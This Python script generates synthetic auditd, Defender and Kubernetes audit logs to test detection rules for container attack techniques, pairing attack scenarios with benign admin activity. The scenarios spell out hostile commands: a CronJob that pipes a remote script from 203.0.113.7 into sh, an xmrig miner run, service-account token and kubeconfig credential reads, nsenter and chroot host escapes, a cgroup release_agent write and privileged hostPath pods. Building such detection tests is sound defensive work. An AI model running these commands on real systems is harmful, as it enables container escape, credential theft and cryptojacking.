#!/usr/bin/env python3
"""Writes the logs of the shipped rules' tests, rules/<rule>/tests/*.

    python3 scripts/rule-tests/gen.py

Each scenario below is one behaviour (an Atomic Red Team test, or ordinary
admin work) on one host, written in every form that observes it:

- processes, file opens and connections as a raw auditd log (`.audit.log`,
  ENRICHED records, the parent shell's execve first so the initiating
  process is known) and as a Defender advanced-hunting streaming-API
  export (`.defender.json`);
- Kubernetes API calls as audit.k8s.io/v1 events, one per line
  (`.k8s-audit.jsonl`).

The output is deterministic; run again after changing a scenario and
commit the logs with it. Which rule tests which scenario is in each
rule.yaml's `tests:`.
"""

import json
import os
from datetime import datetime, timezone

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
HOST = "k8s-node-1"
T0 = 1795168800  # 2026-11-20T10:00:00Z
GS = "\x1d"
PATHS = {
    "bash": "/usr/bin/bash", "sh": "/usr/bin/sh", "sshd": "/usr/sbin/sshd", "kubectl": "/usr/local/bin/kubectl",
    "docker": "/usr/bin/docker", "xargs": "/usr/bin/xargs", "cat": "/usr/bin/cat", "curl": "/usr/bin/curl",
    "ls": "/usr/bin/ls", "systemctl": "/usr/bin/systemctl", "crictl": "/usr/local/bin/crictl", "grep": "/usr/bin/grep",
    "nsenter": "/usr/bin/nsenter", "chroot": "/usr/sbin/chroot", "mount": "/usr/bin/mount", "xmrig": "/tmp/.x/xmrig",
    "journalctl": "/usr/bin/journalctl", "gitlab-runner": "/usr/bin/gitlab-runner", "find": "/usr/bin/find",
    "echo": "/usr/bin/echo", "df": "/usr/bin/df", "ps": "/usr/bin/ps", "id": "/usr/bin/id",
}
USERS = {0: "root", 1000: "alice", 998: "gitlab-runner"}


def iso(t):
    return datetime.fromtimestamp(t, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def hexs(s):
    return s.encode().hex().upper()


def arg(s):
    if s and all(33 <= ord(c) < 127 and c != '"' for c in s):
        return f'"{s}"'
    return hexs(s)


def cmdline(argv):
    return " ".join(f'"{a}"' if " " in a else a for a in argv)


class Scenario:
    """Processes (and their file opens and connections) on HOST, in order."""

    def __init__(self, start, uid=1000, shell_pid=30100):
        self.t = T0 + start
        self.serial = 50000 + start * 10
        self.uid = uid
        self.events = []
        self.procs = {}
        # The login shell every command runs from.
        self.shell = shell_pid
        self.exec(["sshd: alice"], pid=shell_pid - 1, ppid=1, uid=0, name="sshd")
        self.exec(["-bash"], pid=shell_pid, ppid=shell_pid - 1, name="bash")

    def exec(self, argv, pid=None, ppid=None, uid=None, name=None):
        pid = pid or max(self.procs, default=self.shell) + 1
        ppid = ppid or self.shell
        name = name or os.path.basename(argv[0])
        uid = self.uid if uid is None else uid
        self.procs[pid] = {"argv": argv, "name": name, "ppid": ppid, "uid": uid}
        self._add("exec", pid)
        return pid

    def open(self, pid, path):
        self._add("open", pid, path=path)

    def connect(self, pid, ip, port):
        self._add("connect", pid, ip=ip, port=port)

    def _add(self, kind, pid, **kw):
        self.t += 1.25
        self.serial += 1
        self.events.append(dict(kind=kind, pid=pid, t=self.t, serial=self.serial, **kw))

    # auditd ------------------------------------------------------------
    def audit(self):
        out = []
        for e in self.events:
            p = self.procs[e["pid"]]
            name, uid = p["name"], p["uid"]
            user = USERS[uid]
            exe = PATHS.get(name, "/usr/bin/" + name)
            hdr = f"node={HOST} type=%s msg=audit({e['t']:.3f}:{e['serial']}): "
            syscall = {"exec": (59, "execve", "exec"), "open": (257, "openat", "file_access"),
                       "connect": (42, "connect", "network_connect")}[e["kind"]]
            items = {"exec": 2, "open": 1, "connect": 0}[e["kind"]]
            ids = " ".join(f"{k}={uid}" for k in ["auid", "uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"])
            names = " ".join(f'{k}="{user}"' for k in ["AUID", "UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"])
            out.append(hdr % "SYSCALL" + f"arch=c000003e syscall={syscall[0]} success=yes exit=0 a0=5 a1=7ffd2a1b3c40 "
                       f"a2=0 a3=0 items={items} ppid={p['ppid']} pid={e['pid']} {ids} tty=pts0 ses=12 "
                       f'comm="{name[:15]}" exe="{exe}" subj=unconfined key="{syscall[2]}"'
                       f"{GS}ARCH=x86_64 SYSCALL={syscall[1]} {names}")
            if e["kind"] == "exec":
                argv = p["argv"]
                out.append(hdr % "EXECVE" + f"argc={len(argv)} " + " ".join(f"a{i}={arg(a)}" for i, a in enumerate(argv)))
            if e["kind"] == "connect":
                port, ip = e["port"], e["ip"]
                saddr = "0200" + f"{port:04X}" + "".join(f"{int(x):02X}" for x in ip.split(".")) + "0" * 16
                out.append(hdr % "SOCKADDR" + f"saddr={saddr}")
            else:
                out.append(hdr % "CWD" + 'cwd="/home/alice"')
                path = exe if e["kind"] == "exec" else e["path"]
                out.append(hdr % "PATH" + f'item=0 name="{path}" inode=130001 dev=fd:01 mode=0100755 ouid=0 ogid=0 '
                           f"rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
                           f'{GS}OUID="root" OGID="root"')
            out.append(hdr % "PROCTITLE" + "proctitle=" + hexs("\0".join(p["argv"])))
            out.append(hdr % "EOE")
        return "\n".join(out) + "\n"

    # Defender export ---------------------------------------------------
    def defender(self):
        records = []
        for e in self.events:
            p = self.procs[e["pid"]]
            parent = self.procs.get(p["ppid"], {"name": "", "argv": [], "ppid": 0, "uid": 0})
            grand = self.procs.get(parent["ppid"], {"name": ""})
            common = {"Timestamp": iso(e["t"]), "DeviceId": "8f1e0c2a-node-1", "DeviceName": HOST}
            init = {"InitiatingProcessFileName": p["name"], "InitiatingProcessCommandLine": cmdline(p["argv"]),
                    "InitiatingProcessId": e["pid"], "InitiatingProcessAccountName": USERS[p["uid"]],
                    "InitiatingProcessParentFileName": parent["name"]}
            if e["kind"] == "exec":
                table = "DeviceProcessEvents"
                props = dict(common, ActionType="ProcessCreated", FileName=p["name"],
                             FolderPath=PATHS.get(p["name"], "/usr/bin/" + p["name"]), ProcessId=e["pid"],
                             ProcessCommandLine=cmdline(p["argv"]), AccountName=USERS[p["uid"]], AccountDomain=HOST,
                             InitiatingProcessFileName=parent["name"],
                             InitiatingProcessCommandLine=cmdline(parent["argv"]),
                             InitiatingProcessId=p["ppid"], InitiatingProcessParentFileName=grand["name"])
            elif e["kind"] == "open":
                table = "DeviceFileEvents"
                props = dict(common, ActionType="FileAccessed", FileName=os.path.basename(e["path"]),
                             FolderPath=e["path"], **init)
            else:
                table = "DeviceNetworkEvents"
                props = dict(common, ActionType="ConnectionSuccess", RemoteIP=e["ip"], RemotePort=e["port"],
                             Protocol="Tcp", **init)
            records.append({"time": iso(e["t"]), "category": "AdvancedHunting-" + table, "properties": props})
        return json.dumps({"records": records}, indent=1) + "\n"


class Api:
    """Kubernetes API calls, as the API server audits them."""

    def __init__(self, start):
        self.t = T0 + start
        self.n = 0
        self.events = []

    def call(self, verb, uri, resource, user="alice@contoso.com", namespace=None, name=None, subresource=None,
             code=200, body=None, agent="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", stage="ResponseComplete"):
        self.t += 2
        self.n += 1
        ref = {"resource": resource, "apiVersion": "v1"}
        for k, v in (("namespace", namespace), ("name", name), ("subresource", subresource)):
            if v:
                ref[k] = v
        e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if body else "Metadata",
             "auditID": f"5e1d7c00-0000-4000-8000-{int(self.t):08d}{self.n:04d}", "stage": stage,
             "requestURI": uri, "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]},
             "sourceIPs": ["10.20.0.15"], "userAgent": agent, "objectRef": ref,
             "responseStatus": {"metadata": {}, "code": code},
             "requestReceivedTimestamp": iso(self.t), "stageTimestamp": iso(self.t + 0.05)}
        if body:
            e["requestObject"] = body
        self.events.append(e)

    def text(self):
        return "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in self.events)


def pod(name, image, **spec):
    containers = [{"name": name, "image": image, **spec.pop("container", {})}]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": {"containers": containers, **spec}}


def write(rule, name, text):
    d = os.path.join(ROOT, "rules", rule, "tests")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "w") as f:
        f.write(text)


def process_logs(rule, name, scenario):
    write(rule, name + ".audit.log", scenario.audit())
    write(rule, name + ".defender.json", scenario.defender())


def commands(rule, name, start, *argvs, uid=1000):
    """A scenario of commands run one after the other from the login shell."""
    s = Scenario(start, uid=uid)
    for argv in argvs:
        s.exec(argv)
    process_logs(rule, name, s)


def main():
    # T1552.007 ---------------------------------------------------------
    r = "T1552.007-container-api"
    commands(r, "kubectl-get-secrets", 0, ["kubectl", "get", "secrets", "--all-namespaces"])
    s = Scenario(100)
    s.exec(["docker", "ps", "-q"])
    x = s.exec(["xargs", "docker", "inspect", "--format", "{{.Config.Env}}"])
    s.exec(["docker", "inspect", "--format", "{{.Config.Env}}", "3f2a9c1d7e4b", "9b8e7d6c5a41"], ppid=x)
    process_logs(r, "docker-inspect-env", s)
    s = Scenario(200)
    c = s.exec(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])
    s.open(c, "/var/run/secrets/kubernetes.io/serviceaccount/token")
    process_logs(r, "cat-service-account-token", s)
    s = Scenario(300)
    c = s.exec(["curl", "-s", "http://127.0.0.1:2375/containers/json"])
    s.connect(c, "127.0.0.1", 2375)
    process_logs(r, "curl-docker-api", s)
    commands(r, "admin-listing", 400,
             ["kubectl", "get", "pods", "-n", "default"],
             ["docker", "ps"],
             ["systemctl", "status", "kubelet"])
    commands(r, "docker-logs-debugging", 500, ["docker", "logs", "--tail", "50", "web-frontend"])

    # T1059.013 ---------------------------------------------------------
    r = "T1059.013-container-cli"
    commands(r, "docker-run-whoami", 0, ["docker", "run", "--rm", "alpine", "whoami"])
    commands(r, "docker-run-privileged", 100, ["docker", "run", "--rm", "--privileged", "--net=host", "alpine", "id"])
    commands(r, "kubectl-get-secrets", 200, ["kubectl", "get", "secrets"])
    commands(r, "admin-status", 300,
             ["kubectl", "get", "pods", "-n", "default"],
             ["docker", "version"],
             ["crictl", "version"])
    s = Scenario(400, uid=998, shell_pid=31100)
    runner = s.exec(["gitlab-runner", "run"], name="gitlab-runner")
    s.exec(["docker", "run", "--rm", "golang:1.23", "go", "test", "./..."], ppid=runner)
    process_logs(r, "ci-runner-docker-run", s)

    # T1613 -------------------------------------------------------------
    r = "T1613-container-discovery"
    s = Scenario(0)
    for argv in (["docker", "ps", "-a"], ["docker", "images"], ["docker", "network", "ls"], ["docker", "volume", "ls"],
                 ["docker", "info"], ["docker", "inspect", "3f2a9c1d7e4b"]):
        s.exec(argv)
    process_logs(r, "docker-enumeration", s)
    s = Scenario(100)
    for argv in (["kubectl", "get", "nodes"], ["kubectl", "get", "pods", "--all-namespaces"],
                 ["kubectl", "get", "namespaces"], ["kubectl", "get", "services", "--all-namespaces"],
                 ["kubectl", "get", "deployments", "--all-namespaces"], ["kubectl", "get", "serviceaccounts"],
                 ["kubectl", "cluster-info"], ["kubectl", "get", "clusterrolebindings"],
                 ["kubectl", "auth", "can-i", "--list"]):
        s.exec(argv)
    process_logs(r, "kubectl-enumeration", s)
    s = Scenario(200)
    s.exec(["kubectl", "get", "secrets", "--all-namespaces"])
    s.exec(["curl", "-sk", "-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.sig",
            "https://10.0.0.1:6443/api/v1/namespaces/default/secrets"])
    process_logs(r, "secrets-enumeration", s)
    commands(r, "host-maintenance", 300,
             ["systemctl", "status", "kubelet"],
             ["journalctl", "-u", "containerd", "--since", "1 hour ago"],
             ["df", "-h"])
    commands(r, "admin-docker-ps", 400, ["docker", "ps"], uid=0)

    # T1609 -------------------------------------------------------------
    r = "T1609-container-admin-command"
    commands(r, "docker-exec-shell", 0, ["docker", "exec", "-it", "atomic-test-container", "/bin/sh"])
    commands(r, "kubectl-exec", 100, ["kubectl", "exec", "atomic-exec-test", "--", "/bin/sh", "-c", "id"])
    s = Scenario(200)
    c = s.exec(["curl", "-k", "-X", "POST", "https://10.0.0.4:10250/run/default/atomic-exec-test/atomic-exec-test",
                "-d", "cmd=id"])
    s.connect(c, "10.0.0.4", 10250)
    process_logs(r, "curl-kubelet-run", s)
    commands(r, "admin-listing", 300, ["docker", "ps"], ["kubectl", "logs", "web-frontend-7d4b9c", "-n", "default"])
    commands(r, "debug-exec", 400, ["kubectl", "exec", "-it", "web-frontend-7d4b9c", "--", "bash"])

    # Other process rules ------------------------------------------------
    r = "T1552.007-docker-api-tcp"
    s = Scenario(0)
    c = s.exec(["curl", "-s", "http://127.0.0.1:2375/containers/json"])
    s.connect(c, "127.0.0.1", 2375)
    process_logs(r, "curl-docker-api", s)
    s = Scenario(100)
    c = s.exec(["docker", "-H", "tcp://10.0.0.9:2376", "--tlsverify", "ps"])
    s.connect(c, "10.0.0.9", 2376)
    process_logs(r, "docker-remote-context", s)

    r = "T1609-kubelet-api-direct"
    s = Scenario(0)
    c = s.exec(["curl", "-k", "-X", "POST", "https://10.0.0.4:10250/run/default/atomic-exec-test/atomic-exec-test",
                "-d", "cmd=id"])
    s.connect(c, "10.0.0.4", 10250)
    process_logs(r, "curl-kubelet-run", s)
    commands(r, "admin-health", 100, ["kubectl", "get", "nodes"], ["curl", "-s", "http://10.0.0.5:8080/healthz"])

    r = "T1552.001-container-credential-files"
    s = Scenario(0)
    c = s.exec(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])
    s.open(c, "/var/run/secrets/kubernetes.io/serviceaccount/token")
    process_logs(r, "cat-service-account-token", s)
    commands(r, "environ-and-kubeconfig", 100,
             ["cat", "/proc/1/environ"],
             ["grep", "-r", "password", "/home/alice/.kube/config"])
    commands(r, "admin-reading", 200, ["cat", "/etc/hostname"], ["ls", "-la", "/var/log"])

    r = "T1611-nsenter-chroot-host"
    commands(r, "nsenter-pid1", 0, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"], uid=0)
    commands(r, "chroot-host", 100, ["chroot", "/host", "bash"], uid=0)
    commands(r, "nsenter-netns-debug", 200, ["nsenter", "--net=/var/run/netns/cni-1234", "ip", "addr"], uid=0)

    r = "T1611-host-mount-or-release-agent"
    commands(r, "mount-host-disk", 0, ["mount", "/dev/sda1", "/mnt"], uid=0)
    commands(r, "mount-cgroup", 100, ["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/cgrp"], uid=0)
    s = Scenario(150, uid=0)
    e = s.exec(["sh", "-c", "echo /cmd > /tmp/cgrp/x/release_agent"])
    s.open(e, "/tmp/cgrp/x/release_agent")
    process_logs(r, "release-agent-write", s)
    commands(r, "list-mounts", 200, ["mount"], ["df", "-h"], uid=0)

    r = "T1611-container-runtime-socket-mount"
    commands(r, "docker-socket-mount", 0,
             ["docker", "run", "-it", "-v", "/var/run/docker.sock:/var/run/docker.sock", "docker:cli", "sh"])
    commands(r, "host-root-mount", 100, ["docker", "run", "--rm", "-v", "/:/host", "alpine", "chroot", "/host"])
    commands(r, "app-volume", 200, ["docker", "run", "--rm", "-v", "/srv/app:/app", "node:22", "npm", "test"])

    r = "T1612-build-image-on-host"
    commands(r, "docker-build", 0,
             ["docker", "build", "-t", "atomic-test-image", "https://github.com/example/app.git"])
    s = Scenario(100, uid=998, shell_pid=31100)
    runner = s.exec(["gitlab-runner", "run"], name="gitlab-runner")
    b = s.exec(["sh", "-c", "docker build -t registry.example.com/app:1 ."], ppid=runner)
    s.exec(["docker", "build", "-t", "registry.example.com/app:1", "."], ppid=b)
    process_logs(r, "ci-build", s)

    r = "T1525-image-push"
    commands(r, "docker-push", 0, ["docker", "push", "registry.example.com/library/nginx:latest"])
    commands(r, "docker-pull", 100, ["docker", "pull", "nginx:1.27"])

    r = "T1496.001-cryptominer-process"
    s = Scenario(0)
    s.exec(["/tmp/.x/xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5k", "--donate-level", "1"],
           name="xmrig")
    process_logs(r, "xmrig", s)
    commands(r, "admin-download", 100,
             ["ps", "aux"],
             ["curl", "-o", "/tmp/app.tgz", "https://releases.example.com/app.tgz"])

    r = "T1496.001-mining-pool-connection"
    s = Scenario(0)
    m = s.exec(["/tmp/.x/xmrig", "-c", "/tmp/.x/config.json"], name="xmrig")
    s.connect(m, "141.94.96.71", 3333)
    process_logs(r, "xmrig-pool", s)
    s = Scenario(100)
    c = s.exec(["curl", "-s", "https://10.0.0.1:443/"])
    s.connect(c, "10.0.0.1", 443)
    process_logs(r, "https", s)

    # Kubernetes API rules ----------------------------------------------
    a = Api(0)
    a.call("list", "/api/v1/secrets?limit=500", "secrets")
    a.call("get", "/api/v1/namespaces/default/secrets/db-password", "secrets", namespace="default", name="db-password")
    write("T1552.007-aks-secrets-unusual-identity", "kubectl-get-secrets.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("list", "/api/v1/namespaces/kube-system/secrets?limit=500", "secrets", namespace="kube-system",
           user="system:serviceaccount:kube-system:generic-garbage-collector", agent="kube-controller-manager/v1.31.2")
    a.call("get", "/api/v1/namespaces/kube-system/secrets/bootstrap-token-abc", "secrets", namespace="kube-system",
           name="bootstrap-token-abc", user="system:node:aks-nodepool1-0", agent="kubelet/v1.31.2")
    a.call("list", "/api/v1/namespaces/default/pods?limit=500", "pods", namespace="default")
    write("T1552.007-aks-secrets-unusual-identity", "control-plane.k8s-audit.jsonl", a.text())

    a = Api(0)
    a.call("create", "/api/v1/namespaces/default/pods/atomic-exec-test/exec?command=%2Fbin%2Fsh&container=atomic-exec-test"
           "&stdin=true&stdout=true&tty=true", "pods", namespace="default", name="atomic-exec-test", subresource="exec",
           code=101)
    a.call("get", "/api/v1/namespaces/default/pods/atomic-exec-test/exec?command=id&container=atomic-exec-test"
           "&stdout=true", "pods", namespace="default", name="atomic-exec-test", subresource="exec", code=101)
    write("T1609-aks-pod-exec", "kubectl-exec.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("get", "/api/v1/namespaces/default/pods/atomic-exec-test", "pods", namespace="default", name="atomic-exec-test")
    a.call("get", "/api/v1/namespaces/default/pods/atomic-exec-test/log", "pods", namespace="default",
           name="atomic-exec-test", subresource="log")
    write("T1609-aks-pod-exec", "pod-get-and-logs.k8s-audit.jsonl", a.text())

    a = Api(0)
    a.call("create", "/api/v1/namespaces/default/pods/db-0/portforward?ports=5432", "pods", namespace="default",
           name="db-0", subresource="portforward", code=101)
    write("T1572-aks-pod-port-forward", "port-forward.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("get", "/api/v1/namespaces/default/services/db", "services", namespace="default", name="db")
    write("T1572-aks-pod-port-forward", "service-get.k8s-audit.jsonl", a.text())

    priv = pod("atomic-priv", "alpine:3.20", hostPID=True,
               container={"securityContext": {"privileged": True}, "command": ["sleep", "3600"]},
               volumes=[{"name": "host", "hostPath": {"path": "/"}}])
    a = Api(0)
    a.call("create", "/api/v1/namespaces/default/pods", "pods", namespace="default", body=priv)
    write("T1611-aks-privileged-or-hostpath-pod", "privileged-hostpath-pod.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("create", "/api/v1/namespaces/default/pods", "pods", namespace="default", body=pod("web", "nginx:1.27"))
    write("T1611-aks-privileged-or-hostpath-pod", "plain-pod.k8s-audit.jsonl", a.text())

    cron = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "atomic-cronjob"},
            "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
                "containers": [{"name": "c", "image": "alpine:3.20",
                                "command": ["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"]}],
                "restartPolicy": "OnFailure"}}}}}}
    a = Api(0)
    a.call("create", "/apis/batch/v1/namespaces/default/cronjobs", "cronjobs", namespace="default", body=cron)
    write("T1053.007-aks-cronjob-or-job-created", "cronjob.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("create", "/apis/batch/v1/namespaces/default/jobs", "jobs", namespace="default",
           user="system:serviceaccount:kube-system:cronjob-controller", agent="kube-controller-manager/v1.31.2",
           body={"metadata": {"name": "nightly-28901"}, "spec": {"template": {"spec": {
               "containers": [{"name": "c", "image": "backup:2"}]}}}})
    a.call("list", "/apis/batch/v1/namespaces/default/cronjobs", "cronjobs", namespace="default")
    write("T1053.007-aks-cronjob-or-job-created", "controller-job.k8s-audit.jsonl", a.text())

    a = Api(0)
    a.call("create", "/api/v1/namespaces/default/pods?fieldManager=kubectl-run", "pods", namespace="default",
           body=pod("atomic-pod", "alpine:3.20"))
    write("T1610-aks-workload-created-by-user", "kubectl-run.k8s-audit.jsonl", a.text())
    a = Api(100)
    a.call("create", "/api/v1/namespaces/default/pods", "pods", namespace="default",
           user="system:serviceaccount:kube-system:replicaset-controller", agent="kube-controller-manager/v1.31.2",
           body=pod("web-7d4b9c-x2k4p", "nginx:1.27"))
    write("T1610-aks-workload-created-by-user", "controller-pod.k8s-audit.jsonl", a.text())


if __name__ == "__main__":
    main()
